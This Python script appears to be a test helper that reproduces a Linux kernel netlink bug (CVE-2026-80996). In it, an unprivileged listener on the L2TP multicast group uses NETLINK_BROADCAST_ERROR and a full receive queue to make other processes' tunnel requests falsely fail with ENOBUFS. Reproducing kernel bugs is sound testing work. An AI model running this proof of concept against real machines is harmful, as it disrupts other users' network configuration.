#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Somebody else who makes noise on the multicast group "l2tp" of the kernel.

usage: listener.py noise COUNT      so many notifications, of a tunnel of its own
       listener.py full             joins the group and never reads: when its queue is full, "full"
                                    on standard output; ends by SIGINT

A listener that has set NETLINK_BROADCAST_ERROR, for which it needs no right, lets others' requests
fail with ENOBUFS on kernels before 6.1.191, although they were carried out (CVE-2026-80996)."""

import os
import pathlib
import signal
import socket
import sys

sys.path[:0] = [str(pathlib.Path(__file__).resolve().parent)]

from kernel import TUNNEL_CREATE, TUNNEL_DELETE, TUNNEL_MODIFY, L2tp, Refused  # noqa: E402

SOL_NETLINK, ADD_MEMBERSHIP, BROADCAST_ERROR = 270, 1, 4
ID = 64999


def dropped(inode):
    for line in pathlib.Path("/proc/self/net/netlink").read_text().splitlines()[1:]:
        fields = line.split()
        if int(fields[-1]) == inode:
            return int(fields[-2])
    return 0


def main():
    l2tp = L2tp()
    l2tp.call(TUNNEL_CREATE, conn_id=ID, peer_conn_id=ID, proto_version=2, encap_type=0,
              ip_saddr=socket.inet_aton("127.0.0.1"), ip_daddr=socket.inet_aton("127.0.0.1"),
              udp_sport=ID, udp_dport=ID)
    try:
        if sys.argv[1] == "noise":
            for _ in range(int(sys.argv[2])):
                l2tp.call(TUNNEL_MODIFY, conn_id=ID)
            return
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        s.bind((0, 0))
        s.setsockopt(SOL_NETLINK, BROADCAST_ERROR, 1)
        s.setsockopt(SOL_NETLINK, ADD_MEMBERSHIP, l2tp.group)
        inode = os.fstat(s.fileno()).st_ino
        refused = 0
        while not dropped(inode):
            try:
                l2tp.call(TUNNEL_MODIFY, conn_id=ID)
            except Refused:
                refused += 1
        print("full", refused, flush=True)
        signal.pause()
    except KeyboardInterrupt:
        pass
    finally:
        try:
            l2tp.call(TUNNEL_DELETE, conn_id=ID)
        except Refused:
            pass  # it is deleted all the same


if __name__ == "__main__":
    main()
